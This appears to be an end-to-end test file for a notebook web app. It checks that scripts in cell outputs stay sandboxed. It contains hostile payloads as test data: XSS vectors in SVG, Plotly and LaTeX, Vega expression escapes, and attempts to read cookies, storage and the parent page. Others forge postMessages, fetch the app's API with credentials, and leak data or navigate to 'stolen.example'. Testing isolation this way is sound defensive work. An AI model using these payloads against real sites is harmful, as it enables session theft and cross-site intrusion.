"""What the scripts of an output try against the page, the server, the person and other cells - and that nothing comes of it."""

import json
import re
from typing import Any

import pytest
from playwright.async_api import expect

from tests.e2e.notebooks import ipynb, shown
from tests.e2e.pages import RUN_MS, Book, Tab
from tests.e2e.test_isolation import Canary


@pytest.fixture
def canary(tab: Tab) -> Canary:
    return Canary(tab.page)


async def opened(tab: Tab, canary: Canary, *cells: str | dict[str, Any]) -> Book:
    await canary.watch()
    return await tab.upload("hostile.ipynb", ipynb(*cells))


def html(content: str) -> dict[str, object]:
    return shown({"text/html": content})


async def tried(book: Book, index: int = 0) -> dict[str, str]:
    """What the script of a cell found: it writes JSON into #tried."""
    place = book.cell(index).frame.locator("#tried")
    await book.cell(index).place.scroll_into_view_if_needed()
    await expect(place).not_to_be_empty()
    found: dict[str, str] = json.loads(await place.text_content() or "")
    return found


ATTEMPTS = """<pre id="tried"></pre><script>
const found = {};
const attempt = async (name, work) => {
  try { found[name] = "allowed: " + String(await work()); } catch (error) { found[name] = "refused"; }
};
(async () => {
  %s
  document.getElementById("tried").textContent = JSON.stringify(found);
})();
</script>"""


async def test_no_other_cell_and_no_part_of_the_page_can_be_reached(tab: Tab, canary: Canary) -> None:
    work = """
    await attempt("parent document", () => parent.document.body);
    await attempt("sibling document", () => parent.frames[1].document.body);
    await attempt("sibling location", () => { parent.frames[1].location = "/stolen"; return "set"; });
    await attempt("sibling handshake", () => new Promise((done, failed) => {
      const channel = new MessageChannel();
      channel.port1.onmessage = done;
      for (let n = 0; n < parent.frames.length; n += 1) {
        if (parent.frames[n] !== self) parent.frames[n].postMessage("noctule-frame-v1", "*", [channel.port2]);
        channel.port1.postMessage({t: "content", items: []});
        break;
      }
      setTimeout(failed, 500);
    }));
    await attempt("forged", () => new Promise((done, failed) => {
      for (const t of ["run", "comm", "link", "height", "content"]) {
        parent.postMessage({t, id: "x", href: "https://stolen.example/", height: 9999, items: []}, "*");
        top.postMessage({t, id: "x", href: "https://stolen.example/", height: 9999, items: []}, "*");
      }
      setTimeout(failed, 300);
    }));
    await attempt("storage", () => localStorage.length + sessionStorage.length);
    await attempt("caches", () => caches.open("x"));
    await attempt("database", () => indexedDB.open("noctule").result);
    await attempt("cookie", () => document.cookie);
    await attempt("service worker", () => navigator.serviceWorker.register("/static/sw.js"));
    await attempt("broadcast", () => new Promise((done, failed) => {
      const channel = new BroadcastChannel("noctule");
      channel.onmessage = done;
      channel.postMessage("x");
      setTimeout(failed, 200);
    }));
    """
    book = await opened(tab, canary, html(ATTEMPTS % work), html("<p id='other'>other cell</p>"))
    found = await tried(book)
    assert set(found.values()) == {"refused"}, found
    await expect(book.cell(1).frame.locator("#other")).to_have_text("other cell")
    await canary.silent()


async def test_it_opens_no_window_shows_no_dialog_and_posts_no_form(tab: Tab, canary: Canary) -> None:
    work = f"""
    const base = {json.dumps(tab.server.url)};
    await attempt("window", () => {{ if (open(base + "/?canary") === null) throw 0; }});
    await attempt("top", () => {{ top.location = base + "/?stolen"; }});
    await attempt("alert", () => {{ alert("canary"); throw 0; }});
    await attempt("confirm", () => {{ if (!confirm("canary")) throw 0; }});
    await attempt("link without a person", () => {{
      for (let n = 0; n < 20; n += 1) {{
        const a = Object.assign(document.createElement("a"), {{href: "https://stolen.example/" + n}});
        document.body.append(a);
        a.click();
      }}
      throw 0;
    }});
    await attempt("download without a person", () => {{
      const a = Object.assign(document.createElement("a"), {{href: "data:text/plain,stolen", download: "stolen"}});
      a.click();
      throw 0;
    }});
    await attempt("form", () => new Promise((done, failed) => {{
      const form = document.createElement("form");
      form.method = "post";
      form.action = base + "/api/v1/notebooks?canary";
      document.body.append(form);
      form.submit();
      setTimeout(failed, 200);
    }}));
    """
    # The driver's own looking into pages counts as a person's doing; here nobody does anything.
    await tab.page.add_init_script("Object.defineProperty(navigator, 'userActivation', {value: {isActive: false}})")
    await tab.page.reload()
    book = await opened(tab, canary, html(ATTEMPTS % work))
    downloads: list[object] = []
    book.page.on("download", lambda download: downloads.append(download))
    found = await tried(book)
    assert set(found.values()) == {"refused"}, found
    await book.all_saved()
    assert downloads == []
    await canary.silent()


async def test_our_own_server_answers_nothing_to_a_frame(tab: Tab, canary: Canary) -> None:
    work = f"""
    const base = {json.dumps(tab.server.url)};
    const paths = ["/api/v1/me?canary", "/api/v1/notebooks?canary", "/api/v1/openapi.json?canary", "/notebooks/x?canary"];
    for (const path of paths) {{
      await attempt("fetch " + path, () => fetch(base + path, {{credentials: "include"}}).then((answer) => answer.status));
      await attempt("blind fetch " + path, () => fetch(base + path, {{credentials: "include", mode: "no-cors"}}));
      await attempt("script " + path, () => import(base + path));
    }}
    for (const tag of ["img", "video", "script", "link", "iframe", "object", "embed"]) {{
      const element = document.createElement(tag);
      const address = base + "/api/v1/me?canary=" + tag;
      if (tag === "link") element.rel = "stylesheet";
      for (const name of ["src", "href", "data"]) if (name in element) element[name] = address;
      document.body.append(element);
    }}
    const style = document.createElement("style");
    style.textContent = `@import "${{base}}/api/v1/me?canary=import"; body {{ background: url(${{base}}/api/v1/me?canary=css) }}
      @font-face {{ font-family: x; src: url(${{base}}/api/v1/me?canary=font) }} * {{ font-family: x }}`;
    document.head.append(style);
    await attempt("event source", () => new Promise((done, failed) => {{
      const source = new EventSource(base + "/api/v1/me?canary", {{withCredentials: true}});
      source.onopen = done;
      source.onerror = failed;
    }}));
    await attempt("socket", () => new Promise((done, failed) => {{
      const socket = new WebSocket(base.replace("http", "ws") + "/api/v1/notebooks/x/socket");
      socket.onopen = done;
      socket.onerror = failed;
    }}));
    """
    book = await opened(tab, canary, html(ATTEMPTS % work))
    found = await tried(book)
    assert set(found.values()) == {"refused"}, found
    await canary.silent()


async def test_what_was_run_by_a_press_in_the_page_has_to_ask(tab: Tab, canary: Canary) -> None:
    link = "<script>Object.assign(document.createElement('a'), {href: 'https://stolen.example/'}).click()</script><p>ran</p>"
    book = await opened(tab, canary, "x = 1")
    await book.cell(0).write(f"from IPython.display import HTML\nHTML({link!r})")
    await book.cell(0).run()
    await expect(book.cell(0).frame.get_by_text("ran")).to_be_visible(timeout=RUN_MS)
    await canary.silent()


@pytest.mark.parametrize(
    "content",
    [
        "<meta http-equiv='refresh' content='0;url=/?stolen'><p>left</p>",
        "<script>location.href = '/notebooks/stolen'</script>",
        "<script>location.href = 'about:blank'</script>",
        "<script>location.reload()</script>",
        "<iframe srcdoc=\"<script>try { parent.location.href = 'about:blank' } catch {}; try { top.location.href = '/?stolen' } catch {}</script>\"></iframe>",
    ],
)
async def test_a_frame_that_goes_elsewhere_gets_nothing_more(tab: Tab, canary: Canary, content: str) -> None:
    book = await opened(tab, canary, html(content))
    place = book.cell(0).place
    if "<iframe" in content:
        await expect(place.locator("iframe")).to_be_visible()
    else:
        await expect(place.get_by_text("it went to another page")).to_be_visible()
        await expect(place.locator("iframe")).to_have_count(0)
    assert "/notebooks/" in book.page.url
    assert await canary.page.evaluate("window.__pwned") is None
    assert canary.dialogs == []
    assert canary.pages == 1


async def test_nested_documents_are_as_opaque_as_their_frame(tab: Tab, canary: Canary) -> None:
    inner = (
        "<script>const t = {}; const a = (n, w) => { try { t[n] = 'allowed ' + w() } catch { t[n] = 'refused' } };"
        "a('cookie', () => document.cookie); a('top', () => top.document.title); a('outer', () => parent.parent.document.title);"
        "a('storage', () => localStorage.length); document.write('<p id=t>' + JSON.stringify(t) + '</p>');</script>"
    )
    content = (
        f'<iframe srcdoc="{inner.replace(chr(34), "&quot;")}"></iframe><iframe src="data:text/html,{inner}"></iframe>'
    )
    book = await opened(tab, canary, html(content))
    for index in range(2):
        place = book.cell(0).frame.frame_locator("iframe").nth(index).locator("#t")
        await expect(place).not_to_be_empty()
        found = json.loads(await place.text_content() or "")
        assert set(found.values()) == {"refused"}, found
    await canary.silent()


async def test_vega_expressions_are_no_javascript_and_its_loader_reads_nothing_of_ours(
    tab: Tab, canary: Canary
) -> None:
    escape = "constructor.constructor('self.ran = 1; parent.__pwned = 1')()"
    signals = {
        "width": 50,
        "height": 50,
        "signals": [
            {"name": "one", "update": f"'x'.{escape}"},
            {"name": "two", "update": "event.view.constructor.constructor('self.ran = 2')()"},
        ],
        "marks": [],
    }
    loading = {
        "width": 50,
        "height": 50,
        "data": [{"name": "stolen", "url": f"{tab.server.url}/api/v1/notebooks?canary", "format": {"type": "json"}}],
        "marks": [{"type": "symbol", "from": {"data": "stolen"}}],
    }
    book = await opened(
        tab,
        canary,
        shown({"application/vnd.vega.v5+json": signals}),
        shown({"application/vnd.vega.v5+json": loading}),
        shown(
            {"application/vnd.vega.v5+json": {**signals, "signals": [], "usermeta": {"embedOptions": {"ast": False}}}}
        ),
    )
    for index in range(3):
        await book.cell(index).place.scroll_into_view_if_needed()
        await expect(book.cell(index).frame.locator("svg.marks, .note").first).to_be_visible()
        assert await book.cell(index).frame.locator("#outputs").evaluate("() => self.ran") is None
    await canary.silent()


async def test_styles_of_an_output_stay_in_its_frame(tab: Tab, canary: Canary) -> None:
    style = (
        "<style>* { display: none !important } input[value^='a'] { background: url(https://stolen.example/a) }</style>"
    )
    book = await opened(tab, canary, html(style + "<p>styled</p>"), html("<p id='other'>other</p>"))
    await expect(book.cell(1).frame.locator("#other")).to_be_visible()
    await expect(book.page.get_by_label("Notebook name")).to_be_visible()
    await canary.silent()


@pytest.mark.parametrize(
    "bundle",
    [
        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"try{parent.__pwned='svg'}catch{}\"><script>try{parent.__pwned='svg'}catch{}</script></svg>"},
        {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": {"text": "<img src=x onerror=\"try{parent.__pwned='plotly'}catch{}\">"}}}},
        {"application/vnd.bokehjs_load.v0+json": "try { parent.__pwned = 'bokeh' } catch {}"},
        {"text/latex": "$\\href{javascript:parent.__pwned='latex'}{x}$"},
        {"application/geo+json": {"type": "<script>parent.__pwned='geo'</script>"}},
        {"text/x-unknown": "<script>window.__pwned='unknown'</script>"},
        {"image/x-unknown": "\"><script>window.__pwned='image'</script>"},
    ],
)  # fmt: skip
async def test_a_script_in_any_type_stays_in_its_place(tab: Tab, canary: Canary, bundle: dict[str, object]) -> None:
    book = await opened(tab, canary, shown(bundle), html("<p id='last'>last</p>"))
    await expect(book.cell(1).frame.locator("#last")).to_be_visible()
    await book.all_saved()
    await canary.silent()


THIEF = """<input id="box"><p id="tried">tries</p><script>
  const box = document.getElementById("box");
  box.addEventListener("input", () => { document.getElementById("tried").textContent = "stole " + box.value; });
  setInterval(() => {
    window.dispatchEvent(new PointerEvent("pointerdown", {bubbles: true}));
    window.dispatchEvent(new KeyboardEvent("keydown", {key: "Escape", bubbles: true}));
  }, 15);
  STEAL
</script>"""


async def test_no_output_takes_the_selection_by_saying_that_it_was_pressed(tab: Tab, canary: Canary) -> None:
    """Else Shift+Enter runs what a stranger wrote, in place of what the person has just typed."""
    book = await opened(tab, canary, "", {**html(THIEF.replace("STEAL", "")), "source": "print('stolen')"})
    await expect(book.cell(1).frame.locator("#tried")).to_be_visible()
    await book.cell(0).editor.click()
    for key in "print(6 * 7)":
        await book.page.keyboard.press(key)
    await expect(book.cell(0).editor).to_have_text("print(6 * 7)")
    await book.page.keyboard.press("Control+Enter")
    await expect(book.cell(0).text).to_have_text("42\n", timeout=RUN_MS)
    await expect(book.cell(1).text).to_have_count(0)
    await canary.silent()


async def test_keys_that_an_output_took_never_run_its_cell(tab: Tab, canary: Canary) -> None:
    """A frame can take the focus; when it gives it back, it goes where it was."""
    steal = "setInterval(() => { window.focus(); box.focus(); }, 30);"
    book = await opened(tab, canary, "1", {**html(THIEF.replace("STEAL", steal)), "source": "print('stolen')"})
    await expect(book.cell(1).frame.locator("#tried")).to_be_visible()
    await book.cell(0).editor.click()
    for key in ("a", "Shift+Enter", "b", "Control+Enter", "c", "Shift+Enter", "d", "d", "Control+Enter") * 3:
        await book.page.keyboard.press(key, delay=40)
    await expect(book.cell(1).place.get_by_role("button", name="Run this cell")).to_be_attached()
    await expect(book.cell(1).editor).to_have_text("print('stolen')")
    await expect(book.cell(1).text).to_have_count(0)
    await canary.silent()


async def test_a_person_gets_into_an_output_and_out_of_it(tab: Tab, canary: Canary) -> None:
    book = await opened(tab, canary, "x = 1", html("<button>press</button><input id='box'>"))
    await expect(book.cell(1).frame.locator("button")).to_be_visible()
    await book.cell(0).editor.click()
    await book.cell(1).frame.locator("#box").click()
    await expect(book.cell(1).place).to_have_class(re.compile(r"\bcommand\b"))
    await book.page.keyboard.type("mine")
    await expect(book.cell(1).frame.locator("#box")).to_have_value("mine")
    await book.page.keyboard.press("Escape")
    await expect(book.cell(0).editor).to_be_focused()
    await expect(book.cell(0).place).to_have_class(re.compile(r"\bedit\b"))
    await book.cell(1).place.click(position={"x": 5, "y": 5})
    await book.cell(1).frame.locator("#box").click()
    await book.page.keyboard.press("Escape")
    await expect(book.cell(1).place).to_be_focused()
